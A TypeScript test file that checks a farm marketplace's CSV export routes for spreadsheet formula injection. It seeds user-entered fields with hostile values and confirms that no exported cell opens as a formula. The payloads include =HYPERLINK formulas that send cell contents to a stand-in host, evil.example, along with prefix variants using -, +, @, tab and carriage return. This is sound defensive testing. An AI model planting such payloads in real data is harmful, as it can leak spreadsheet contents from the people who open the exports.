/**
 * No CSV we answer opens as a live formula (docs/architecture.md, "CSV files"). Every CSV route of
 * the registry is walked with hostile text in every field a person writes (buyer and farm names,
 * product names, places, postal codes, payout references, waitlist entries), then each cell is
 * read back as a spreadsheet would split it: only our own numbers may start with `-`.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { DateTime } from "luxon";
import { db } from "@/lib/server/platform/db";
import { endpoints } from "@/lib/contracts/index";
import { CSV_ANSWER, type Endpoint } from "@/lib/contracts/endpoint";
import { runPayouts } from "@/lib/server/payments/payouts";
import * as waitlistRoute from "@/app/api/waitlist/route";
import { call } from "../support/http";
import {
  createFarmerWithSession,
  createProduct,
  createUserWithSession,
} from "../support/factories";
import { createOrderInSlot, createPickupPoint, createWindow } from "../support/fulfilment";
import { createStaff, handlerOf } from "../ops/support";
import { placeOrder, topUp } from "../wallet/support";
import { complete } from "../payments/ledger-support";
import { payoutDay } from "../payments/support";

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Invoice")';
/** One hostile text per field, each starting a formula in its own way. */
const HOSTILE = {
  buyer: HYPERLINK,
  farm: `-${HYPERLINK}`,
  product: `@SUM(A1);${HYPERLINK}`,
  pickupName: `+${HYPERLINK}`,
  pickupAddress: `1 Main St, ${HYPERLINK}`,
  deliveryAddress: `\t${HYPERLINK}`,
  postalCode: `\r${HYPERLINK}`,
  reference: `e-transfer;${HYPERLINK}`,
  company: `Bistro, -2+3; @cmd`,
};

/** A cell as Excel reads it with a `,` or `;` list separator: no piece may start a formula. */
function formulaPieces(cell: string): string[] {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return [];
  return cell.split(/[;,]/).filter((piece) => /^ *[=+\-@\t\r]/.test(piece));
}

const DATE = "2026-11-28";
const today = DateTime.now().setZone("America/Vancouver");
const period = `from=${today.minus({ days: 7 }).toISODate()}&to=${today.plus({ days: 30 }).toISODate()}`;

/** Each CSV route: the request, and whether people's text reaches it (the tax summary has none). */
let requests: Record<string, { url: string; cookie: string; params?: Record<string, string> }>;
const WITHOUT_TEXT = new Set(["/api/my-farm/reports/tax"]);

beforeAll(async () => {
  const farmer = await createFarmerWithSession({ farmName: HOSTILE.farm });
  const buyer = await createUserWithSession({ fullName: HOSTILE.buyer });
  const product = await createProduct(farmer.farm.id, { name: HOSTILE.product, priceCents: 1069 });
  expect((await topUp(buyer.cookie, 100)).status).toBe(200);
  const placed = await placeOrder(buyer.cookie, [{ productId: product.id, quantity: 3 }]);
  expect(placed.status, placed.text).toBe(201);
  expect((await complete(farmer.cookie, placed.json.orders[0].id)).status).toBe(200);
  await runPayouts(payoutDay());
  // The reference ops type when they mark a manual payout paid.
  const payout = await db.payout.update({
    where: { id: (await db.payout.findFirstOrThrow({ where: { farmId: farmer.farm.id } })).id },
    data: { reference: HOSTILE.reference },
  });

  const point = await createPickupPoint(farmer.farm.id, {
    name: HOSTILE.pickupName,
    address: HOSTILE.pickupAddress,
  });
  const market = await createWindow(farmer.farm.id, { pickupPointId: point.id });
  const evening = await createWindow(farmer.farm.id, { kind: "delivery" });
  const lines = [{ product, quantity: 2 }];
  await createOrderInSlot(farmer.farm.id, market, DATE, {
    buyerName: HOSTILE.buyer,
    lines,
    place: { pickupName: point.name, pickupAddress: point.address },
  });
  await createOrderInSlot(farmer.farm.id, evening, DATE, {
    buyerName: HOSTILE.buyer,
    lines,
    place: { deliveryAddress: HOSTILE.deliveryAddress, postalCode: HOSTILE.postalCode },
  });

  const joined = await call(waitlistRoute.POST, "/api/waitlist", {
    body: {
      fullName: HOSTILE.buyer,
      email: "evil@example.test",
      companyName: HOSTILE.company,
      role: "restaurant",
    },
  });
  expect(joined.status, joined.text).toBe(201);
  const staff = await createStaff();

  const mine = { cookie: farmer.cookie };
  requests = {
    "/api/my-farm/pack-list": { url: `/api/my-farm/pack-list?date=${DATE}&format=csv`, ...mine },
    "/api/my-farm/payouts/{id}": {
      url: `/api/my-farm/payouts/${payout.id}?format=csv`,
      params: { id: String(payout.id) },
      ...mine,
    },
    "/api/my-farm/reports/sales": {
      url: `/api/my-farm/reports/sales?${period}&group=product&format=csv`,
      ...mine,
    },
    "/api/my-farm/reports/tax": { url: `/api/my-farm/reports/tax?${period}&format=csv`, ...mine },
    "/api/my-farm/exports/quickbooks.csv": {
      url: `/api/my-farm/exports/quickbooks.csv?${period}`,
      ...mine,
    },
    "/api/my-farm/exports/xero.csv": { url: `/api/my-farm/exports/xero.csv?${period}`, ...mine },
    "/api/ops/waitlist.csv": { url: "/api/ops/waitlist.csv", cookie: staff.cookie },
  };
});

const answersCsv = (e: Endpoint) => e.response === "text/csv" || e.otherAnswers === CSV_ANSWER;

describe("every CSV route is safe to open in a spreadsheet", () => {
  it("walks every CSV call of the registry", () => {
    expect(
      endpoints
        .filter(answersCsv)
        .map((e) => e.path)
        .sort(),
    ).toEqual(Object.keys(requests).sort());
  });

  it.each(endpoints.filter(answersCsv).map((e) => [e.path, e] as const))(
    "%s: hostile text arrives as text, never as a formula",
    async (path, e) => {
      const { url, cookie, params } = requests[path];
      const res = await call(await handlerOf(e), url, { cookie, params });
      expect(res.status, res.text).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      const cells = (parse(res.text, { relax_column_count: true }) as string[][]).flat();
      if (!WITHOUT_TEXT.has(path))
        expect(cells.filter((c) => c.includes("evil.example")).length, res.text).toBeGreaterThan(0);
      expect(cells.flatMap(formulaPieces), res.text).toEqual([]);
    },
  );
});
